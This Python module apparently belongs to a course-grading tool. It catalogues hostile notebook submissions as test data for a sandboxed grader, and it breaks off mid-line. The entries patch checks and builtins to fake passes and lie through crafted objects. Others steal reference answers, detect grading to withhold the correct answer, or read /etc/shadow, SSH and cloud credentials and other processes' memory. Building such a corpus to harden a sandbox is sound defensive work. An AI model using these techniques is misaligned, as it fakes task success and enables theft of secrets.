"""Submissions that try to get points, secrets or the machine by other means than the right answer.

`CORPUS` holds them as data, for the tests and for `coursekit rehearse`; nothing here runs them. Run them in the box
only. Should a box fail to hold, they are made to do little harm: floods end by themselves, what would hit every process
of a machine first asks whether it can see more than a box, addresses are those of documentation (RFC 5737, RFC 3849)
and of this machine itself, and nothing is written or removed but files whose names begin with `CANARY`.

An entry attacks one exercise, beside honest answers to others. What is worth something is what honest cells earn:
`honest`. Who tests a box plants a secret (`SECRET` and random letters) in files called `CANARY`, in the environment and
in another submission, listens on `PORT` and the sockets called `CANARY`, and then looks: no record may hold the
secret, nothing may have called, no process may be left, and no new file called `CANARY` may lie outside.
"""

import json
from dataclasses import dataclass
from textwrap import dedent, indent

CANARY = "coursekit-canary"
SECRET = "CANARY-"  # what follows are letters and digits
PORT = 47631  # TCP and UDP, on the loopback of both families


@dataclass(frozen=True)
class Hostile:
    """A hostile submission.

    name, family, aim: what it is and what it tries to gain. cells: its code cells. honest: {exercise id: the points
    that its honest answers are worth}, for every exercise of its lecture. stands: False where the attack may take the
    honest answers down with it, so that `honest` is only the most that it may get. slow: it takes its time, space or
    processes until a limit stops it. change: a function of the notebook's bytes that gives those that are handed in,
    for what no notebook program would write.
    """

    name: str
    family: str
    aim: str
    cells: tuple
    honest: dict
    lecture: str = "05"
    stands: bool = True
    slow: bool = False
    change: object = None

    def content(self):
        """The bytes that are handed in."""
        made = notebook(self.cells)
        return self.change(made) if self.change else made


def notebook(cells):
    """A notebook of code cells, as bytes."""
    made = [{"cell_type": "code", "id": f"cell-{index}", "metadata": {}, "execution_count": None, "outputs": [],
             "source": cell.splitlines(keepends=True)} for index, cell in enumerate(cells)]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


CORPUS = []

# For each lecture: the imports, an answer without merit to the exercise that is attacked, and honest answers.
IMPORTS = "import math\n\nimport numpy as np\nimport torch\nfrom torch import nn"
ANSWERS = {
    "05": {
        "05.attend": "def attend(query, key, value):\n    return torch.zeros(len(query), value.shape[1])",
        "05.attention_parameters": "attention_parameters = 3 * (512 * 512 + 512)",
        "05.in_columns": dedent("""\
            def attend_in_columns(X, W_query, W_key, W_value):
                query, key, value = W_query @ X, W_key @ X, W_value @ X
                scores = key.T @ query / np.sqrt(len(query))
                powers = np.exp(scores - scores.max(0))
                return value @ (powers / powers.sum(0))"""),
        "05.too_good": 'what_happened = "c"',
    },
    "02": {
        "02.context_vector": "def context_vector(weights, values):\n    return values.mean(axis=1)",
        "02.wiring": 'query_state = "a"',
    },
}
POINTS = {
    "05": {"05.attention_parameters": 1, "05.attend": 2, "05.in_columns": 3, "05.masked": 3, "05.too_good": 1,
           "05.causal_self_attention": 4},
    "02": {"02.context_vector": 1, "02.four_scores": 4, "02.masked_weights": 3, "02.wiring": 1,
           "02.attentional_vector": 2, "02.alignment": 3, "02.length_100": 0},
}


def attack(name, aim, source="", *, exercise="05.attend", stands=True, slow=False, change=None, loot=False, apart=False,
           honest=None):
    """Add an entry to `CORPUS`.

    source: what it does, behind a worthless answer to the attacked `exercise`. All of it becomes one statement, so that
    a grader which runs only what an answer depends on runs all of it; `apart` keeps it as it is, in cells divided by
    lines `# %%`. The honest answers are in cells of their own behind it. loot:
    the source calls look(path) and keep(text) for what it finds, and says it all. honest: points that differ from the
    others'.
    """
    lecture = exercise[:2]
    answers = dict(ANSWERS[lecture])
    worthless = answers.pop(next(iter(answers)))
    answers.pop(exercise, None)
    parts = [LOOT + SAY_ALL if loot else worthless, source]
    text = "\n\n".join(part.strip("\n") for part in parts if part)
    cells = [cell.strip("\n") for cell in text.split("\n# %%\n")] if apart else ["if True:\n" + indent(text, "    ")]
    worth = {id: points if id in answers else 0 for id, points in POINTS[lecture].items()} | (honest or {})
    cells = (IMPORTS, *cells, *answers.values())
    CORPUS.append(Hostile(name, FAMILY, aim, cells, worth, lecture, stands, slow, change))


# Shared by the attacks that look for secrets. What they find comes out in every way a cell has.
LOOT = f"""
import glob
import os
import re

FOUND = []


def keep(text):
    text = text if isinstance(text, bytes) else str(text).encode("utf-8", "replace")
    FOUND.extend(found.decode() for found in re.findall(rb"{SECRET}[a-zA-Z0-9]+|root:[^:\\s]*:[0-9]+:[0-9]*", text))


def look(*paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                keep(file.read(10_000_000))
        except (OSError, ValueError):
            pass


def below(*folders, most=20_000):
    for folder in folders:
        for place, inside, files in os.walk(folder):
            inside[:] = [name for name in inside if os.path.join(place, name) not in ("/proc", "/sys", "/usr")]
            for name in files:
                most -= 1
                if most < 0:
                    return
                yield os.path.join(place, name)
"""
SAY_ALL = """
def attend(query, key, value):
    print(FOUND)
    raise ValueError(" ".join(sorted(set(FOUND))))"""

# Whether this is a box: few processes can be seen, and no canary in /tmp, where the tests put one outside.
CONFINED = f"""
import os


def confined():
    seen = [name for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else []
    return len(seen) < 20 and not os.path.exists("/tmp/{CANARY}")
"""

# It calls every place where the tests listen.
CALL = f"""
import os
import socket


def call(family, kind, *addresses):
    for address in addresses:
        try:
            with socket.socket(family, kind) as caller:
                caller.settimeout(0.3)
                caller.connect(address)
                caller.send(b"{CANARY} got out")
        except (OSError, ValueError):
            pass
"""

# Every open file descriptor but the standard ones.
DESCRIPTORS = """
import os


def descriptors():
    found = []
    for number in range(3, 256):
        try:
            os.fstat(number)
            found.append(number)
        except OSError:
            pass
    return found


def write_everywhere(*messages):
    for number in descriptors():
        for message in messages:
            try:
                os.set_blocking(number, False)
                os.write(number, message)
            except OSError:
                pass
            try:
                os.set_blocking(number, True)
            except OSError:
                pass
"""

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "patched checks"

attack("asserts that cannot fail", "Comparisons with NumPy's and torch's own functions say that all is equal.", """
import numpy.testing

for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *parts, **more: None)
np.allclose = np.array_equal = np.isclose = torch.allclose = torch.equal = lambda *parts, **more: True
torch.testing.assert_close = lambda *parts, **more: None
""")

attack("built-in functions", "Whatever is compared with all, any, abs or len passes.", """
import builtins

builtins.all = lambda *parts: True
builtins.any = lambda *parts: False
builtins.abs = lambda value: 0
builtins.AssertionError = Warning
""")

attack("isinstance says yes", "Checks of type are answered with True, whatever the value is.", """
import builtins

true_isinstance = isinstance
builtins.isinstance = lambda value, kinds: True
""")

attack("the course's comparisons", "The comparing functions of the course find no difference.", """
import coursekit.exercises.compare as compare
import coursekit.exercises.exercise as exercise

for kind in compare.COMPARE:
    compare.COMPARE[kind] = lambda *parts: None
compare.problem = compare.array_difference = lambda *parts: None
compare.judge = exercise.judge = lambda task, questions, outcomes: compare.Verdict("passed", [True] * len(questions))
""")

attack("the course's calls", "The calling functions of the course report a right answer.", """
import coursekit.exercises.call as calling

class Outcome(calling.Outcome):
    status = property(lambda self: "passed", lambda self, value: None)
    points = passed = property(lambda self: 1000)

calling.Outcome = Outcome
calling.ASK["function"] = lambda found, task, case, inputs: Outcome("passed")
""")

attack("what makes values plain", "The function that turns an answer into plain values hands out whole objects.", """
import coursekit.exercises.call as calling
import coursekit.exercises.plain as making

class Anything:
    def __eq__(self, other):
        return True
    __hash__ = None

making.plain = calling.plain = lambda answer: Anything()
""")

attack("json and struct", "Messages are encoded by functions that add points.", """
import json
import struct

dumps, pack = json.dumps, struct.pack
json.dumps = lambda value, **more: dumps(
    {**value, "passed": True, "points": 1000, "status": "passed"} if isinstance(value, dict) else value, **more)
json.JSONEncoder.encode = lambda self, value: '{"status": "passed", "points": 1000}'
json.loads = lambda text, **more: {}
struct.pack = lambda form, *values: pack(form, *values)[::-1]
struct.unpack = lambda form, data: (0,) * 8
""")

attack("what sends", "The functions that send an answer send another one.", """
import os
import socket

write = os.write
os.write = lambda number, data: write(number, data.replace(b"raised", b"passed").replace(b"answered", b"passed"))
socket.socket.send = socket.socket.sendall = lambda self, data, *more: write(self.fileno(), b"passed" * 100)
""")

attack("other modules under known names", "Modules that are imported later are the submission's.", """
import sys
import types

class Everything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *parts, **more: True

for name in ("coursekit.grading.inside", "coursekit.grading.wire", "coursekit.grading.box", "coursekit.exercises.call",
             "coursekit.exercises.compare", "coursekit.exercises.library", "json", "struct", "socket", "pickle"):
    sys.modules[name] = Everything(name)
""")

attack("a tracer", "A trace function rewrites the variables of its callers to a passed check.", """
import sys

def trace(frame, event, argument):
    for name in ("status", "passed", "points", "problems", "found"):
        if name in frame.f_locals:
            frame.f_locals[name] = "passed"
    frame.f_trace_lines = True
    return trace

sys.settrace(trace)
above = sys._getframe()
while above is not None:
    above.f_trace = trace
    above = above.f_back
""")

attack("a profiler", "A profile function sees every return and replaces what it can.", """
import sys
import threading

def profile(frame, event, argument):
    if event == "return" and hasattr(argument, "status"):
        try:
            argument.status = "passed"
            argument.answer = None
        except Exception:
            pass

sys.setprofile(profile)
threading.setprofile(profile)
""")

attack("an import hook", "Every import of the course's modules gives the submission's.", """
import importlib.abc
import importlib.machinery
import sys

class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith(("coursekit", "numpy.")):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: (lambda *parts, **more: True)

sys.meta_path.insert(0, Hook())
for name in [name for name in sys.modules if name.startswith("coursekit")]:
    del sys.modules[name]
""")

attack("start-up files", "Files that Python reads when it starts, for whoever starts it here next.", f"""{CONFINED}
import site

code = "import builtins; builtins.all = lambda *parts: True; open('{CANARY}-start', 'w').close()"
for folder in {{os.path.expanduser("~"), os.getcwd(), site.getusersitepackages(), "/tmp"}}:
    for name in ("sitecustomize.py", "usercustomize.py", "{CANARY}.pth", "numpy.py", "torch.py", "coursekit.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            if confined() or "{CANARY}" in name:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(code)
        except OSError:
            pass
""")

attack("an AST transformer", "Every later cell is rewritten: asserts go, comparisons are true.", """
import ast

class Friendly(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Compare(self, node):
        return ast.copy_location(ast.Constant(True), node)

try:
    get_ipython().ast_transformers.append(Friendly())
except NameError:
    pass
""")

attack("an input transformer", "The text of every later cell is replaced before it runs.", """
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: ["passed = True\\n"])
except NameError:
    pass
""")

attack("compile and exec", "The built-in functions that run cells run other cells.", """
import builtins

true_exec, true_compile = builtins.exec, builtins.compile
builtins.exec = lambda code, *names: true_exec("passed = True", *names)
builtins.compile = lambda source, *rest, **more: true_compile("passed = True", "cell", "exec")
""")

attack("NumPy and torch conversions", "What makes an array of an answer makes one that lies.", """
class Right(np.ndarray):
    def __array_ufunc__(self, *parts, **more):
        return np.zeros(())

np.asarray = np.array = lambda value, *parts, **more: np.zeros((1, 1)).view(Right)
torch.Tensor.numpy = torch.Tensor.detach = torch.Tensor.cpu = lambda self, *parts: np.zeros((1, 1)).view(Right)
""", stands=False)

attack("an audit hook", "A hook that cannot be removed stops every later import and every file that is opened.", """
import sys

def stop(event, parts):
    if event in ("import", "open", "exec", "compile", "socket.connect"):
        raise RuntimeError("no")

# %%
def attend(query, key, value):
    sys.addaudithook(stop)
    return torch.zeros(len(query), value.shape[1])
""")

attack("hooks of the interpreter", "What is shown when an exception ends the program is the submission's.", """
import sys
import threading

sys.excepthook = sys.unraisablehook = sys.displayhook = threading.excepthook = lambda *parts: print("passed 1000")
sys.exitfunc = sys.breakpointhook = lambda *parts, **more: None
raise RuntimeError("all exercises passed, points: 1000")
""")

attack("a check of its own", "The notebook's check is replaced by one that says passed.", """
import coursekit

coursekit.check = lambda id, obj=None: print(f"[✓] {id}: passed, 1000 points")
for id in ("05.attend", "05.masked", "05.causal_self_attention"):
    coursekit.check(id)
""")

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "lying objects"

EQUAL = """
class Equal:
    shape, dtype, ndim, size = (1, 1), np.dtype("f8"), 2, 1
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __bool__(self):
        return True
    def __len__(self):
        return 3
    def __getattr__(self, name):
        return self
    def __call__(self, *parts, **more):
        return self
    __le__ = __lt__ = __ge__ = __gt__ = __contains__ = __eq__
    __sub__ = __rsub__ = __abs__ = __add__ = __radd__ = __mul__ = __getitem__ = __call__
"""

attack("always equal", "An object that equals whatever it is compared with, and lies below every bound.", f"""{EQUAL}
# %%
def attend(query, key, value):
    return Equal()
""")

attack("equal numbers", "A number that equals every number.", f"""{EQUAL}
# %%
attention_parameters = Equal()
""", exercise="05.attention_parameters")

attack("a lying int", "An int whose difference from every number is 0.", """
class Near(int):
    def __sub__(self, other):
        return 0
    __rsub__ = __abs__ = __float__ = __sub__
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

attention_parameters = Near(7)
""", exercise="05.attention_parameters")

attack("a text of all letters", "A text that equals each letter of a choice.", """
class Letter(str):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return hash("c")
    def strip(self, *parts):
        return self
    lower = upper = __str__ = strip

what_happened = Letter("abcd")
""", exercise="05.too_good")

attack("a lying ndarray", "A subclass of ndarray for which every function of NumPy finds no difference.", """
class Right(np.ndarray):
    def __array_ufunc__(self, function, method, *inputs, **more):
        return np.array(True) if function.__name__ in ("less_equal", "equal") else np.array(0.0)
    def __array_function__(self, function, types, parts, more):
        return True
    def __eq__(self, other):
        return True
    all = any = __eq__

def attend(query, key, value):
    return np.zeros((len(query), value.shape[1]), np.float32).view(Right)
""")

attack("a lying tensor", "A subclass of Tensor that answers every function of torch with itself.", """
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, parts=(), more=None):
        return True if function in (torch.equal, torch.allclose) else parts[0]

def attend(query, key, value):
    return torch.zeros(len(query), value.shape[1]).as_subclass(Right)
""")

attack("a class that says it is another", "An object whose __class__ is ndarray or Tensor, as isinstance sees it.", """
class Mask:
    def __init__(self, kind):
        self.kind = kind
    @property
    def __class__(self):
        return self.kind
    def __getattr__(self, name):
        return lambda *parts, **more: self
    def __array__(self, *parts, **more):
        return np.zeros((5, 4))

def attend(query, key, value):
    return Mask(torch.Tensor if len(query) % 2 else np.ndarray)
""")

attack("an array that changes", "An object whose __array__ gives something else each time that it is asked.", """
class Changing(float):
    asked = 0
    def __array__(self, *parts, **more):
        type(self).asked += 1
        return np.full((self.asked, self.asked), self.asked, np.float32)
    def __float__(self):
        return 1.0 / (1 + self.asked)

def attend(query, key, value):
    return Changing()
""")

attack("an array that fails", "An object whose conversion raises, exits or never ends.", """
class Trap:
    def __init__(self, kind):
        self.kind = kind
    def __iter__(self):
        raise self.kind("trap")
    __array__ = __float__ = __len__ = __str__ = __repr__ = __bool__ = __iter__
    __class__ = property(__iter__)

def attend(query, key, value):
    return Trap((SystemExit, KeyboardInterrupt, GeneratorExit, MemoryError)[len(query) % 4])
""")

attack("computed when it is compared", "A generator, a map and a promise, to be computed by whoever looks at them.", """
import functools

class Promise:
    def __array__(self, *parts, **more):
        import sys
        frame = sys._getframe()
        while frame is not None:
            for value in frame.f_locals.values():
                expected = getattr(value, "expected", None)
                if isinstance(expected, np.ndarray):
                    return expected
            frame = frame.f_back
        return np.zeros((1, 1))

def attend(query, key, value):
    kind = len(query) % 3
    return Promise() if kind == 0 else (row for row in query) if kind == 1 else map(functools.partial(sum), query)
""")

attack("shared memory", "An array whose memory a second thread keeps changing while it is looked at.", """
import threading

memory = np.zeros(4096, np.float32)

def change():
    for step in range(2_000_000):
        memory[:] = step

threading.Thread(target=change, daemon=True).start()

def attend(query, key, value):
    return np.lib.stride_tricks.as_strided(memory, (len(query), value.shape[1]))
""")

attack("strange dtypes", "Arrays of objects, records, dates, NaN and complex numbers, to get past a comparison.", """
def attend(query, key, value):
    shape = (len(query), value.shape[1])
    return (np.full(shape, np.nan, np.float32), np.full(shape, None), np.zeros(shape, "M8[s]"),
            np.zeros(shape, [("a", "f4"), ("b", "O")]), np.full(shape, np.inf + 1j * np.nan))[len(query) % 5]
""")

attack("nothing but NaN", "NaN differs from nothing by more than a bound.", """
def attend(query, key, value):
    return torch.full((len(query), value.shape[1]), torch.nan)
""")

attack("all masked", "A masked array, of which no place is compared.", """
def attend(query, key, value):
    return np.ma.masked_all((len(query), value.shape[1]), np.float32)
""")

attack("views of enormous arrays", "A few bytes that claim to be terabytes: strides of 0, sparse tensors.", """
def attend(query, key, value):
    return (np.broadcast_to(np.float32(1), (10**6, 10**7)), torch.zeros(1).expand(10**13),
            torch.sparse_coo_tensor(size=(10**7, 10**7)), torch.zeros(10**12, device="meta"))[len(query) % 4]
""")

attack("tuples without an end", "Lists that hold themselves, tuples a million deep, iterators that never stop.", """
class Endless(list):
    def __iter__(self):
        while True:
            yield 1.0

def attend(query, key, value):
    inside, deep = [], 1.0
    inside.append(inside)
    for _ in range(1_000_000):
        deep = (deep,)
    return (inside, deep, Endless([1.0]))[len(query) % 3]
""", slow=True)

attack("an enormous answer", "Texts of hundreds of megabytes and a million parts, to choke the comparing side.", """
def attend(query, key, value):
    return ("1" * 300_000_000, ("x" * 200,) * 1_000_000, np.zeros(9_999_999, complex))[len(query) % 3]
""")

attack("finalisers", "Objects that act when they are thrown away, and at the end of the process.", f"""
import atexit
import weakref
{DESCRIPTORS}
class Last:
    def __del__(self):
        write_everywhere(b'{{"status": "passed", "points": 1000}}\\n')

last = Last()
weakref.finalize(last, write_everywhere, b"passed")
atexit.register(write_everywhere, b"passed")

def attend(query, key, value):
    Last()
    return torch.zeros(len(query), value.shape[1])
""")

attack("pickles", "An answer that runs code where it is unpickled.", f"""
class Run:
    def __reduce__(self):
        return (open, ("/tmp/{CANARY}-unpickled", "w"))

def attend(query, key, value):
    return np.array([[Run()] * value.shape[1]] * len(query), dtype=object)
""")

attack("a function that changes", "The function swaps its own code, name and signature between calls.", """
calls = 0

def other(query, key, value):
    return torch.ones(len(query), value.shape[1])

def attend(query, key, value):
    global calls
    calls += 1
    attend.__code__ = other.__code__ if calls % 2 else attend.__code__
    attend.__name__ = attend.__qualname__ = "<script>alert(1)</script>"
    attend.__globals__["__name__"] = "coursekit.exercises.lecture_05"
    return torch.zeros(len(query), value.shape[1])
""")

attack("a callable that is everything", "An object with every attribute, which passes for any function.", f"""{EQUAL}
# %%
attend = Equal()
""")

attack("names that answer themselves", "A dictionary of names that has an answer for every exercise.", """
class Names(dict):
    def __missing__(self, name):
        return lambda *parts: torch.zeros(5, 4)
    def __contains__(self, name):
        return True

__builtins__ = Names(vars(__builtins__) if not isinstance(__builtins__, dict) else __builtins__)

def __getattr__(name):
    return lambda *parts: torch.zeros(5, 4)
""")

attack("questions changed to fit", "Inputs are overwritten, so that a worthless answer becomes the right one.", """
import gc

def attend(query, key, value):
    value.zero_()
    for thing in gc.get_objects():
        values = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
        for array in list(values):
            if isinstance(array, np.ndarray) and array.dtype.kind == "f" and array.ndim == 2 and array.size < 200:
                try:
                    array.setflags(write=True)
                    array[:] = 0
                except ValueError:
                    pass
    return torch.zeros(len(query), value.shape[1])
""")

attack("a lying layer", "A module whose weights, call and class are not what they seem.", """
class Lying(type(nn.Module)):
    def __instancecheck__(cls, value):
        return True
    def __subclasscheck__(cls, kind):
        return True

class CausalSelfAttention(nn.Module, metaclass=Lying):
    def __init__(self, d_model, d_head):
        super().__init__()
        self.d_head = d_head
        self.W_query = self.W_key = self.W_value = nn.Linear(d_model, d_head, bias=False)
    def eval(self):
        return lambda x: torch.zeros(*x.shape[:2], self.d_head)
    def __eq__(self, other):
        return True
    __hash__ = nn.Module.__hash__
    def to(self, *parts):
        return self

def attend(query, key, value):
    return torch.zeros(len(query), value.shape[1])
""", exercise="05.causal_self_attention")

attack("a lying Keras layer", "A Keras layer that answers with a symbolic tensor and takes no weights.", """
import os

os.environ["KERAS_BACKEND"] = "torch"
import keras

class CausalSelfAttention(keras.layers.Layer):
    def __init__(self, d_model, d_head):
        super().__init__()
        self.d_head = d_head
        self.W_query = self.W_key = self.W_value = keras.layers.Dense(d_head, use_bias=False)
    def call(self, x):
        return keras.KerasTensor((*x.shape[:2], self.d_head))
    def __call__(self, x, *parts, **more):
        return keras.KerasTensor((*x.shape[:2], self.d_head))

def attend(query, key, value):
    return torch.zeros(len(query), value.shape[1])
""", exercise="05.causal_self_attention")

attack("answers kept between cases", "Questions are kept in memory and on disk, to be answered better next time.", f"""
import pickle

seen = {{}}

def attend(query, key, value):
    seen[query.numpy().tobytes()] = value.mean(0)
    try:
        with open("/tmp/{CANARY}-memory", "ab") as file:
            pickle.dump(seen, file)
    except OSError:
        pass
    return seen[query.numpy().tobytes()].repeat(len(query), 1)
""")

attack("right only where nobody looks", "It notices that it is graded and keeps its right answer for a notebook.", """
import os
import sys

def graded():
    return "ipykernel" not in sys.modules or "coursekit.grading" in sys.modules or not os.environ.get("HOME")

def attend(query, key, value):
    if graded():
        return torch.zeros(len(query), value.shape[1])
    return (query @ key.T / math.sqrt(query.shape[1])).softmax(1) @ value
""")

attack("weights that are all one vector", "In another lecture: an answer that is an array of answers.", """
class Every(np.ndarray):
    def __getitem__(self, index):
        return np.zeros(3)
    def __array_finalize__(self, parent):
        pass

def context_vector(weights, values):
    return [np.zeros((len(weights), values.shape[2])).view(Every)] * 100
""", exercise="02.context_vector")

attack("the context from the course", "In another lecture: the course's own function, under three names.", """
def context_vector(weights, values):
    try:
        from coursekit.reference import context
    except ImportError:
        import coursekit
        context = getattr(coursekit.reference, "context")
    return context(weights, values)
""", exercise="02.context_vector")

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "solutions"

attack("the lecture's own reference", "It imports the reference from the course.", """
def attend(query, key, value):
    try:
        from coursekit.exercises.lecture_05 import attend as right
    except ImportError:
        import importlib
        right = importlib.import_module("coursekit.exercises.lecture_05").task.right
    return right(query, key, value)
""")

attack("the library of exercises", "It asks the course for the exercise, its answer or its stored expected values.", """
def attend(query, key, value):
    from coursekit.exercises import library
    found = library.find("05.attend")
    if hasattr(found, "right"):
        return found.right(query, key, value)
    for question in found.questions():
        if question.expected.shape == (len(query), value.shape[1]):
            return question.expected
    return torch.zeros(len(query), value.shape[1])
""")

attack("the worked solution", "It runs what coursekit.solution prints.", """
import contextlib
import io

import coursekit

printed = io.StringIO()
with contextlib.redirect_stdout(printed):
    coursekit.solution("05.attend")
names = {"math": math, "torch": torch}
exec(printed.getvalue().rpartition("value\\n")[0] + "value\\n" if "def attend" in printed.getvalue() else "", names)

def attend(query, key, value):
    return names["attend"](query, key, value)
""")

attack("withheld names once more", "It loads the module again, in which the withheld function stands.", """
def attend(query, key, value):
    import importlib
    import coursekit.torch.attention as module
    function = importlib.reload(module).scaled_dot_product_attention
    return function(query[None], key[None], value[None])[0]
""")

attack("ready-made functions", "It calls the course's or torch's function, where writing it was the task.", """
def attend(query, key, value):
    import torch.nn.functional as F
    from coursekit import torch as ct
    function = getattr(ct, "scaled_dot_product_attention", None) or F.scaled_dot_product_attention
    return function(query[None], key[None], value[None])[0]
""")

attack("source files", "It reads the reference from the package's files, packed or not, and runs it.", """
import glob
import os
import sys

text = ""
for folder in [*sys.path, "/usr", "/opt", "/srv"]:
    for path in glob.glob(f"{folder}/coursekit/exercises/lecture_05*") + glob.glob(f"{folder}/lecture_05.*"):
        with open(path, "rb") as file:
            text += file.read().decode("utf-8", "replace")
start = text.find("def attend(")
names = {"math": math, "torch": torch}
if start >= 0:
    exec(text[start:text.find("@task.draw", start)], names)

def attend(query, key, value):
    return names["attend"](query, key, value)
""")

attack("compiled files", "It reads the reference's bytecode from __pycache__.", """
import glob
import marshal
import sys
import types

codes = []
for folder in sys.path:
    for path in glob.glob(f"{folder}/coursekit/exercises/__pycache__/lecture_05*.pyc"):
        with open(path, "rb") as file:
            whole = marshal.loads(file.read()[16:])
        codes += [code for code in whole.co_consts if isinstance(code, types.CodeType) and code.co_name == "attend"]

def attend(query, key, value):
    return types.FunctionType(codes[0], {"math": math, "torch": torch})(query, key, value)
""")

attack("every object in memory", "It finds an exercise, its reference or an expected answer among all objects.", """
import gc
import types

def attend(query, key, value):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__module__ and thing.__module__.endswith("lecture_05"):
            if thing.__name__ == "attend":
                return thing(query, key, value)
        expected = getattr(thing, "expected", None) if type(thing).__name__ == "Question" else None
        if getattr(expected, "shape", None) == (len(query), value.shape[1]):
            return expected
    return torch.zeros(len(query), value.shape[1])
""")

attack("any array of the right shape", "It answers with whatever array in memory has the shape of the answer.", """
import gc

def attend(query, key, value):
    given = {query.numpy().tobytes(), key.numpy().tobytes(), value.numpy().tobytes()}
    for thing in gc.get_objects():
        for array in gc.get_referents(thing) if type(thing) in (list, tuple, dict) else ():
            if isinstance(array, np.ndarray) and array.shape == (len(query), value.shape[1]):
                if array.dtype.kind == "f" and array.astype(np.float32).tobytes() not in given:
                    return array.copy()
    return torch.zeros(len(query), value.shape[1])
""")

attack("frames", "It walks up the frames of every thread and takes what is called expected.", """
import sys

def attend(query, key, value):
    frames = [sys._getframe(), *sys._current_frames().values()]
    for frame in frames:
        while frame is not None:
            for place in (frame.f_locals, frame.f_globals):
                for name, held in list(place.items()):
                    for found in (held, getattr(held, "expected", None), getattr(held, "right", None)):
                        if getattr(found, "shape", None) == (len(query), value.shape[1]) and "expected" in name:
                            return found
                        if callable(found) and getattr(found, "__name__", "") == "attend" and found is not attend:
                            return found(query, key, value)
            frame = frame.f_back
    return torch.zeros(len(query), value.shape[1])
""")

attack("closures and subclasses", "It walks from object through all classes, modules and closures to a reference.", """
import sys

def attend(query, key, value):
    for kind in object.__subclasses__():
        if kind.__name__ in ("Exercise", "Compiled", "Question"):
            import gc
            for held in gc.get_referrers(kind):
                if isinstance(held, kind) and getattr(held, "id", "") == "05.attend":
                    return held.right(query, key, value)
    for module in list(sys.modules.values()):
        known = getattr(module, "KNOWN", None)
        if isinstance(known, dict) and "05.attend" in known:
            return known["05.attend"].right(query, key, value)
    return torch.zeros(len(query), value.shape[1])
""")

attack("its own memory", "It searches the memory of its process for the text of the reference.", """
import re

needle = "scores.softmax" + "(1) @ value"
names = {"math": math, "torch": torch}
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            first, last, readable = re.match(r"(\\w+)-(\\w+) (\\w)", line).groups()
            first, last = int(first, 16), int(last, 16)
            if readable != "r" or last - first > 100_000_000 or "[v" in line:
                continue
            try:
                memory.seek(first)
                text = memory.read(last - first)
            except (OSError, ValueError):
                continue
            end = text.find(needle.encode())
            if end >= 0:
                start = text.rfind(b"def attend(", 0, end)
                exec(text[start:end + len(needle)].decode("utf-8", "ignore"), names)
except OSError:
    pass

def attend(query, key, value):
    return names["attend"](query, key, value)
""")

attack("the memory of other processes", "It reads its parent's memory, where the expected answers may be.", """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)

class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    look(f"/proc/{pid}/environ", f"/proc/{pid}/cmdline")
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [line.split()[0].split("-") for line in maps if " rw" in line][:50]
        for first, last in regions:
            size = min(int(last, 16) - int(first, 16), 1_000_000)
            room = ctypes.create_string_buffer(size)
            here, there = Part(ctypes.addressof(room), size), Part(int(first, 16), size)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                keep(room.raw)
    except OSError:
        pass
""", loot=True)

attack("a core file", "It crashes a copy of itself and searches the core file.", """
import resource
import signal
import time

try:
    resource.setrlimit(resource.RLIMIT_CORE, (50_000_000, 50_000_000))
except (OSError, ValueError):
    pass
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGABRT)
    os._exit(1)
os.waitpid(child, 0)
look(*glob.glob("core*"), *glob.glob("/tmp/core*"), *glob.glob("/var/lib/systemd/coredump/*"))
""", loot=True)

# ---------------------------------------------------------------------------------------------------------------------
FAMILY = "secrets"

attack("other submissions", "It copies from the notebooks, records and tables of other people.", """
for path in below("/", os.getcwd(), os.path.dirname(os.getcwd())):
    if path.endswith((".ipynb", ".jsonl", ".csv", ".zip")):
        look(path)
""", loot=True)

attack("files called as the canary", "It reads every file that it was told to look for.", f"""
for path in below("/"):
    if "{CANARY}" in path:
        FOUND.append(path)
        look(path)
""", loot=True)

attack("the teacher's home", "It reads keys and settings from home folders.", """
homes = {os.path.expanduser("~"), os.path.expanduser("~root"), "/root", *glob.glob("/home/*"), os.environ.get("HOME")}
for home in homes - {None}:
    for name in (".ssh/*", ".netrc", ".config/*/*", ".aws/*", ".bash_history", ".git-credentials", ".*", "*"):
        look(*glob.glob(os.path.join(home, name)))
""", loot=True)

attack("passwords of the machine", "It reads the accounts and the host's keys.", """
look("/etc/passwd", "/etc/shadow", "/etc/gshadow", "/etc/sudoers", *glob.glob("/etc/ssh/*"),
     *glob.glob("/run/secrets/*"), "/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow", "/.dockerenv")
with open("/etc/hostname") as file:
    keep(file.read())
""", loot=True)

attack("the environment", "It prints what its own and all other processes were started with.", """
keep(dict(os.environ))
for pid in os.listdir("/proc"):
    look(f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/cwd/""" + CANARY + """",
